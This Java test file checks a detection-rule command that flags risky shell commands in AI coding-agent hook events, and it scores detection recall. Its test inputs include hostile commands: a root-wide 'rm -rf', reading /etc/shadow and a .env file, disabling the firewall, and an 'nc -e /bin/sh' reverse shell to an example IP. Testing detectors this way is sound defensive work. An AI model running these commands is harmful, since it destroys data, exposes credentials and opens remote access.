package dev.agenttelemetry.launcher.rules;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.agenttelemetry.launcher.Cli;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class RulesCommandTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path dir;

    private static List<JsonNode> jsonLines(java.util.stream.Stream<String> lines) {
        return lines.map(line -> {
            try {
                return JSON.readTree(line);
            } catch (Exception e) {
                throw new AssertionError(line, e);
            }
        }).toList();
    }

    @Test
    void validateAcceptsTheDefaultsAndNamesTheLineOfEachProblem() throws Exception {
        Path defaults = dir.resolve("rules.yaml");
        Files.writeString(defaults, Cli.run("rules", "defaults").out());
        Cli.Run valid = Cli.run("rules", "validate", defaults.toString());
        assertThat(valid.exitCode()).isZero();
        assertThat(valid.out()).contains("valid, 18 rules", "destructive_command", "high_frequency");

        Path broken = dir.resolve("broken.yaml");
        Files.writeString(broken, "rules:\n  - id: x\n    title: X\n    severity: urgent\n    match:\n      - tool: [Bash]\n");
        Cli.Run invalid = Cli.run("rules", "validate", broken.toString());
        assertThat(invalid.exitCode()).isEqualTo(1);
        assertThat(invalid.err()).contains("broken.yaml: 3 problems",
                "line 4: rule 'x'.severity: 'urgent' is not one of low, medium, high, critical",
                "line 6: rule 'x'.match alternative: unknown key 'tool'");

        assertThat(Cli.run("rules", "validate", dir.resolve("missing.yaml").toString()).exitCode()).isEqualTo(2);
    }

    @Test
    void testEvaluatesHookPayloadsAndEventsLineByLine() throws Exception {
        Path events = dir.resolve("events.jsonl");
        Files.write(events, List.of(
                "{\"session_id\":\"s1\",\"hook_event_name\":\"PreToolUse\",\"cwd\":\"/home/dev/shop\",\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"ls -la\"}}",
                "{\"session_id\":\"s1\",\"hook_event_name\":\"PreToolUse\",\"cwd\":\"/home/dev/shop\",\"tool_name\":\"Bash\",\"tool_input\":{\"command\":\"cd / && sudo rm -rf --no-preserve-root *\"}}",
                "",
                "{not json",
                "{\"event_id\":\"e9\",\"received_at\":\"2026-11-23T10:00:00Z\",\"source\":\"claude-code\",\"session_id\":\"s2\",\"hook_event_name\":\"PreToolUse\","
                        + "\"event_type\":\"file_read\",\"tool_name\":\"Read\",\"file_path\":\"/home/dev/shop/.env\",\"payload\":\"{}\",\"hash\":\"h\","
                        + "\"paths\":[{\"path\":\"/home/dev/shop/.env\",\"class\":\"inside_project\"}]}"));

        Cli.Run json = Cli.run("rules", "test", "--events", events.toString(), "--json");
        assertThat(json.exitCode()).isEqualTo(1); // one line could not be read
        List<JsonNode> lines = jsonLines(json.out().lines());
        assertThat(lines).hasSize(5);
        assertThat(lines.get(0).path("line").asInt()).isEqualTo(1);
        assertThat(lines.get(0).path("rules")).isEmpty();
        assertThat(lines.get(1).path("line").asInt()).isEqualTo(2);
        assertThat(lines.get(1).path("rules").findValuesAsText("id")).containsExactlyInAnyOrder("outside_project_access", "destructive_command", "privilege_escalation");
        assertThat(lines.get(1).path("rules").get(0).path("severity").asText()).isEqualTo("low"); // cd / leaves the project
        assertThat(lines.get(2).path("line").asInt()).isEqualTo(4);
        assertThat(lines.get(2).path("error").asText()).startsWith("not valid JSON");
        assertThat(lines.get(3).path("rules").findValuesAsText("id")).containsExactly("sensitive_file_access");
        assertThat(lines.get(4).path("summary").path("inputs").asInt()).isEqualTo(4);
        assertThat(lines.get(4).path("summary").path("flagged").asInt()).isEqualTo(2);

        Cli.Run text = Cli.run("rules", "test", "--events", events.toString());
        assertThat(text.out()).contains("line 1: -", "line 2: destructive_command (critical): cd / && sudo rm -rf --no-preserve-root *",
                "4 inputs, 2 raised at least one rule, 1 unreadable");
    }

    /** A file of made-up commands, one or more per family of attack, each naming the rule it must raise ("expect"). */
    @Test
    void testRaisesTheExpectedRuleOnEveryLineOfTheAttackFamiliesFile() throws Exception {
        Path file = Path.of(getClass().getResource("/rules/attack-families.jsonl").toURI());
        List<JsonNode> inputs = jsonLines(Files.readAllLines(file).stream());
        Cli.Run run = Cli.run("rules", "test", "--events", file.toString(), "--json");
        assertThat(run.exitCode()).isZero();
        List<JsonNode> results = jsonLines(run.out().lines()).stream().filter(result -> result.has("line")).toList();
        assertThat(results).hasSameSizeAs(inputs).hasSizeGreaterThan(70);
        for (JsonNode result : results) {
            JsonNode input = inputs.get(result.path("line").asInt() - 1);
            assertThat(result.path("rules").findValuesAsText("id")).as(input.path("tool_input").path("command").asText())
                    .contains(input.path("expect").asText());
        }
    }

    @Test
    void testScoresLabelledCommandsByCategoryStrengthAndTechnique() throws Exception {
        Path attacks = dir.resolve("attacks.jsonl");
        Files.write(attacks, List.of(
                "{\"technique\":\"T1562.004\",\"category\":\"config_tampering\",\"strength\":\"direct\",\"command\":\"ufw disable\"}",
                "{\"technique\":\"T1007\",\"category\":\"outside_project_access\",\"strength\":\"indirect\",\"command\":\"launchctl list\"}",
                "{\"technique\":\"T1030\",\"category\":\"network_exfiltration\",\"strength\":\"direct\",\"command\":\"split -b 1m dump.bin part_\"}",
                "{\"technique\":\"T1003.008\",\"category\":\"destructive_command\",\"categories\":[\"destructive_command\",\"sensitive_file_access\"],"
                        + "\"strength\":\"direct\",\"command\":\"cat /etc/shadow\"}",
                "{\"expect\":\"remote_shell\",\"command\":\"nc -e /bin/sh 203.0.113.9 4444\"}"));
        Cli.Run run = Cli.run("rules", "test", "--events", attacks.toString(), "--json");
        assertThat(run.exitCode()).isZero();
        List<JsonNode> lines = jsonLines(run.out().lines());
        assertThat(lines.subList(0, 5)).extracting(line -> line.path("detected").asBoolean()).containsExactly(true, true, false, true, true);
        assertThat(lines.get(0).path("rules").findValuesAsText("category")).contains("config_tampering");
        JsonNode recall = lines.get(5).path("summary").path("recall");
        assertThat(recall.path("labelled").asInt()).isEqualTo(5);
        assertThat(recall.path("detected").asInt()).isEqualTo(4);
        assertThat(recall.path("by_strength").path("direct").path("detected").asInt()).isEqualTo(2);
        assertThat(recall.path("by_category").path("rule remote_shell").path("detected").asInt()).isEqualTo(1);
        assertThat(recall.path("by_technique").path("T1030").path("detected").asInt()).isZero();
        assertThat(recall.path("missed_lines").get(0).asInt()).isEqualTo(3);

        Cli.Run text = Cli.run("rules", "test", "--events", attacks.toString());
        assertThat(text.out()).contains("line 3: -  (missed)", "recall on labelled lines: 4/5 = 80.0 %", "by technique:", "missed lines: 3");
    }

    @Test
    void listTechniquesPrintsTheCoverageTableTheDocsHold() throws Exception {
        Cli.Run text = Cli.run("rules", "list", "--techniques");
        assertThat(text.exitCode()).isZero();
        assertThat(text.out()).contains("T1562.004", "impair_defenses", "out of scope", "techniques, ");
        Cli.Run markdown = Cli.run("rules", "list", "--techniques", "--markdown");
        Path docs = Path.of("..", "docs", "attack-coverage.md");
        assertThat(Files.readString(docs)).as("docs/attack-coverage.md holds `rules list --techniques --markdown`").endsWith(markdown.out());

        Path trimmed = dir.resolve("trimmed.yaml");
        Files.writeString(trimmed, "rules:\n  - id: destructive_command\n    title: D\n    severity: high\n    match:\n      - command: {program: [shred]}\n");
        assertThat(Cli.run("rules", "list", "--techniques", "--rules", trimmed.toString()).out()).contains("remote_shell (not in this rule file)");
    }
}
